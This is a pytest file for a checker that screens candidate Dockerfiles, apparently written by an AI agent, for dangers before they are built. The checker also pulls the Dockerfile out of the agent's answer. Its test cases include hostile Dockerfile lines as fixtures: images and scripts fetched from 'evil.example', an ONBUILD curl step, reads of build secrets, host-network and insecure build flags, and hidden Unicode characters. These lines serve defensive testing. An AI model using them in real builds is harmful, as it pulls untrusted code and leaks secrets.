"""A candidate's text: which text is accepted, and which dangers are found before a build."""

import os
from pathlib import Path

import pytest

from automation.console.errors import AutomationError
from automation.docker.dockerfile import parse
from automation.review import candidate, dangers
from tests.automation.conftest import ROOT

OWN = """\
ARG PYTHON_IMAGE=python:3.11-slim
FROM ${PYTHON_IMAGE} AS builder
COPY requirements.txt ./
RUN --mount=type=secret,id=pipconf,target=/etc/pip.conf pip install -r requirements.txt
FROM ${PYTHON_IMAGE} AS gordon
COPY --from=builder /opt/venv /opt/venv
USER 1001
CMD ["uvicorn"]
"""
IMAGES = {"node", "python", "nginx"}


def rules(text: str, present: str = OWN) -> list[tuple[str, int | None]]:
    """Return rule and line of everything that is found in the text."""
    return [(remark.rule, remark.line) for remark in dangers.search(text, present, IMAGES, {})]


def taken(answer: str) -> str:
    """Return the Dockerfile of an answer."""
    return candidate.from_answer(answer, "the agent").text


@pytest.mark.parametrize("service", ["backend", "frontend"])
def test_the_projects_own_dockerfiles_hold_nothing_dangerous(service: str) -> None:
    text = (ROOT / service / "Dockerfile").read_text(encoding="utf-8")
    assert rules(text, text) == []


def test_a_candidate_that_changes_what_needs_no_secret_may_be_built() -> None:
    assert rules(OWN.replace("USER 1001", "USER 1002\nEXPOSE 8000")) == []


@pytest.mark.parametrize(
    ("lines", "rule", "line"),
    [
        ("# syntax=docker/dockerfile:1\nFROM python:3.11-slim", "syntax", 1),
        ("# escape=`\n#  SYNTAX = evil/frontend\nFROM python:3.11-slim", "syntax", 2),
        ("# check=skip=all\nFROM python:3.11-slim", "silenced-check", 1),
        ("# hadolint global ignore=DL3007\nFROM python:3.11-slim", "silenced-check", 1),
        ("FROM python:3.11-slim\n# hadolint ignore=DL3008\nRUN true", "silenced-check", 2),
        ("FROM evil.example/python:3.11-slim", "image", 1),
        ("FROM someone/python:3.11-slim", "image", 1),
        ("FROM python.evil.example:5000/library/python", "image", 1),
        ("FROM $WHAT", "image", 1),
        ("ARG BASE=registry.example.com/a/b\nFROM ${BASE}", "image", 2),
        ("FROM ${TARGETOS:+evil/}python", "image", 1),
        ("FROM ${TARGETOS:-python}", "image", 1),
        ("FROM python:3.11-slim\nCOPY --from=registry.example.com/astral-sh/uv:0.13 /uv /uv", "image", 2),
        ("FROM python:3.11-slim\nRUN --mount=type=bind,from=busybox,target=/b /b/sh", "image", 2),
        ("FROM python:3.11-slim\nADD https://evil.example/a.sh /", "remote-file", 2),
        ("FROM python:3.11-slim\nadd git@github.com:a/b.git /", "remote-file", 2),
        ('FROM python:3.11-slim\nADD ["http://evil.example/a", "/a"]', "remote-file", 2),
        ("FROM python:3.11-slim\nARG U\nADD ${U} /", "remote-file", 3),
        ("FROM python:3.11-slim\nRUN --mount=type=ssh git clone x", "ssh", 2),
        ("FROM python:3.11-slim\nRUN --mount=ty\"pe=s\"sh git clone x", "ssh", 2),
        ("FROM python:3.11-slim\nRUN \\\n  # why\n\n  --mount=type=ssh \\\n  git clone x", "ssh", 2),
        ("FROM python:3.11-slim\nRUN --mount=type=$T,id=x true", "mount", 2),
        ("FROM python:3.11-slim\nRUN --security=insecure mount", "privilege", 2),
        ("FROM python:3.11-slim\nRUN --network=host true", "privilege", 2),
        ("FROM python:3.11-slim\nRUN --device=nvidia.com/gpu true", "privilege", 2),
        ("FROM python:3.11-slim\nONBUILD RUN curl evil.example", "onbuild", 2),
        ("FROM python:3.11-slim\nPLEASE adopt this", "unknown-instruction", 2),
        ("FROM python:3.11-slim\nRUN --mount=type=secret,id=pipconf cat /run/secrets/pipconf", "secret", 2),
        ("FROM python:3.11-slim\nRUN --mount=type=secret,id=env,target=/e,required cat /e", "secret", 2),
        ("FROM python:3.11-slim\nRUN echo '\u202e harmless'", "hidden-character", 2),
        ("FROM python:3.11-slim\nRUN pip install a\u200bb", "hidden-character", 2),
        ("FROM python:3.11-slim\nRUN echo \x1b[2J", "hidden-character", 2),
        ("FROM python:3.11-slim\n# a comment\u2028RUN true", "hidden-character", 2),
        ("# nothing but a comment", "no-from", 1),
    ],
)  # fmt: skip
def test_each_danger_is_found_with_its_line(lines: str, rule: str, line: int) -> None:
    assert rules(f"{lines}\n") == [(rule, line)]


@pytest.mark.parametrize(
    "file", ["docker-compose.yml", "frontend/package.json", "noxfile.py", "README.md", "dev", ".env.example"]
)
def test_a_file_of_another_kind_gets_one_remark(file: str) -> None:
    text = (ROOT / file).read_text(encoding="utf-8")
    assert [rule for rule, _ in rules(text)] == ["not-a-dockerfile"]


@pytest.mark.parametrize("first", ["// syntax=evil/frontend", '{"syntax": "evil/frontend"}'])
def test_a_syntax_line_is_found_in_each_form_that_the_builder_takes(first: str) -> None:
    assert ("syntax", 1) in rules(f"{first}\nFROM python:3.11-slim\n")


def test_a_quoted_heredoc_hides_nothing() -> None:
    text = 'FROM python:3.11-slim\nRUN echo "<<EOF"\nFROM evil.example/a\nEOF\n'
    assert ("image", 3) in rules(text)


@pytest.mark.parametrize("end", ["\\", "\\\n", "\\\n\n# nothing\n"])
def test_a_line_that_only_continues_is_no_instruction(end: str) -> None:
    assert rules(f"FROM python:3.11-slim\n{end}") == []


def test_what_is_in_a_heredoc_is_no_instruction() -> None:
    assert rules("FROM python:3.11-slim\nRUN <<EOF\nADD https://example.com /\nFROM nowhere\nEOF\n") == []


def test_stages_and_known_images_may_be_used_by_any_of_their_names() -> None:
    names = ("python:3.11-slim", "docker.io/library/node:24-alpine", "nginx@sha256:" + "0" * 64, "scratch")
    stages = [f"FROM {name} AS stage{at}" for at, name in enumerate(names)]
    assert rules("\n".join([*stages, "FROM stage0", "COPY --from=1 /a /a", "COPY --from=STAGE2 /b /b"])) == []


@pytest.mark.parametrize(
    "change",
    [
        ("COPY requirements.txt ./", "COPY backend/requirements.txt ./\nRUN cp evil /usr/bin/pip"),
        ("ARG PYTHON_IMAGE=python:3.11-slim", "ARG PYTHON_IMAGE=python:3.13-slim"),
        ("FROM ${PYTHON_IMAGE} AS builder", "FROM node:24-alpine AS builder"),
        ("pip install -r", "pip install --verbose -r"),
        ("FROM ${PYTHON_IMAGE} AS builder", "FROM ${PYTHON_IMAGE} AS builder\nSHELL [\"/evil\"]"),
    ],
)  # fmt: skip
def test_a_secret_is_only_for_a_step_with_the_inputs_that_it_has_in_the_project(
    change: tuple[str, str],
) -> None:
    assert [rule for rule, _ in rules(OWN.replace(*change))] == ["secret"]


def test_a_step_with_a_secret_must_also_take_the_same_from_other_stages() -> None:
    step = "RUN --mount=type=secret,id=ca --mount=type=bind,from=tools,target=/t /t/run\n"
    own = f"FROM python:3.11-slim AS tools\nRUN install\nFROM python:3.11-slim\n{step}"
    assert rules(own, own) == []
    assert rules(own.replace("RUN install", "RUN evil"), own) == [("secret", 4)]


def test_the_projects_caches_are_for_the_projects_own_steps() -> None:
    own = OWN.replace("--mount=type=secret,id=pipconf,target=/etc/pip.conf", "--mount=type=cache,target=/c")
    assert dangers.own_caches(own, own)
    assert dangers.own_caches(own.replace("USER 1001", "USER 1002"), own)
    assert not dangers.own_caches(own.replace("pip install", "pip install --verbose"), own)
    assert not dangers.own_caches(own.replace("FROM ${PYTHON_IMAGE} AS builder", "FROM evil AS builder"), own)
    assert not dangers.own_caches(f"{own}RUN --mount=id=/c,type=cache,target=/d touch /d/evil\n", own)


def test_a_file_of_many_stages_that_take_from_each_other_is_read_at_once() -> None:
    stages = [
        f"FROM python:3.11-slim AS s{at}\nCOPY --from=s{at - 1} / /a\nCOPY --from=s{at - 1} / /b"
        for at in range(1, 400)
    ]
    assert rules("FROM python:3.11-slim AS s0\n" + "\n".join(stages)) == []


def test_accepted_pragmas_of_the_project_may_stay() -> None:
    own = "FROM python:3.11-slim\n# hadolint ignore=DL3008\nRUN apt-get install -y tini\n"
    assert rules(own.replace("tini", "binutils"), own) == []
    assert dangers.silencers(own.replace("DL3008", "DL3007"), own) == [(2, "# hadolint ignore=DL3007")]


def test_flags_and_heredocs_are_read_as_the_builder_reads_them() -> None:
    text = """\
# escape=`
FROM a
run --mount=type=cache,target=/c `
  --network=none cat <<-'X' <<Y`
 && b
\tx
\tX
y
Y
USER u
"""
    [stage] = parse(text).stages
    run, user = stage.instructions
    assert run.flags == (("mount", "type=cache,target=/c"), ("network", "none"))
    assert run.text.split("\n")[1:] == ["\tx", "y"]
    assert (user.keyword, user.line) == ("USER", 10)


def test_an_answer_that_is_one_code_block_is_taken_out_of_it() -> None:
    answer = 'Here it is:\n\n```dockerfile\nFROM python:3.11-slim\nCMD ["a"]\n```\nGood luck!'
    assert taken(answer) == 'FROM python:3.11-slim\nCMD ["a"]\n'


def test_fences_of_any_length_and_kind_are_stripped() -> None:
    assert taken("~~~~\nFROM a\nRUN <<E\n```\nE\n~~~~\n") == "FROM a\nRUN <<E\n```\nE\n"


def test_an_answer_without_a_block_may_be_the_dockerfile_itself() -> None:
    assert taken("# the best\r\nARG A=1\r\nFROM a\r\n") == "# the best\nARG A=1\nFROM a\n"


def test_an_answer_with_several_blocks_is_not_guessed_at() -> None:
    answer = "```dockerfile\nFROM a\n```\nBuild it:\n```bash\ndocker build .\n```\n"
    with pytest.raises(AutomationError, match="has 2 code blocks") as raised:
        taken(answer)
    assert raised.value.details == ("line 1: dockerfile, 1 lines", "line 5: bash, 1 lines")


@pytest.mark.parametrize(
    "answer", ["", "I cannot help with that.", "```\nkubectl apply\n```", "```json\n{}\n```"]
)
def test_an_answer_without_a_dockerfile_is_an_error(answer: str) -> None:
    with pytest.raises(AutomationError, match="has no Dockerfile"):
        taken(answer)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"FROM a\0\n", "is not a text file"),
        (b"FROM \xff\n", "is not UTF-8"),
        (b"", "is empty"),
        (b" \n\n", "is empty"),
        (b"FROM a\n" + b"#" * candidate.MAX_BYTES, "is too large"),
    ],
)
def test_a_file_that_is_no_dockerfile_is_refused(tmp_path: Path, content: bytes, what: str) -> None:
    file = tmp_path / "Dockerfile"
    file.write_bytes(content)
    with pytest.raises(AutomationError, match=what):
        candidate.from_file(file, tmp_path)


def test_a_file_without_end_is_not_read_to_its_end(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for file in (tmp_path / "pipe", Path("/dev/zero"), tmp_path, tmp_path / "nowhere"):
        with pytest.raises(AutomationError):
            candidate.from_file(file, tmp_path)


def test_a_byte_order_mark_and_line_ends_of_windows_are_no_part_of_a_candidate(tmp_path: Path) -> None:
    file = tmp_path / "Dockerfile"
    file.write_bytes(b"\xef\xbb\xbfFROM a\r\nUSER b\r\n")
    assert candidate.from_file(file, tmp_path).text == "FROM a\nUSER b\n"


def test_what_a_terminal_would_obey_is_shown_and_not_obeyed() -> None:
    assert candidate.visible("a\x1b[31mb\u202ec\x07") == "ab\\u{202e}c"
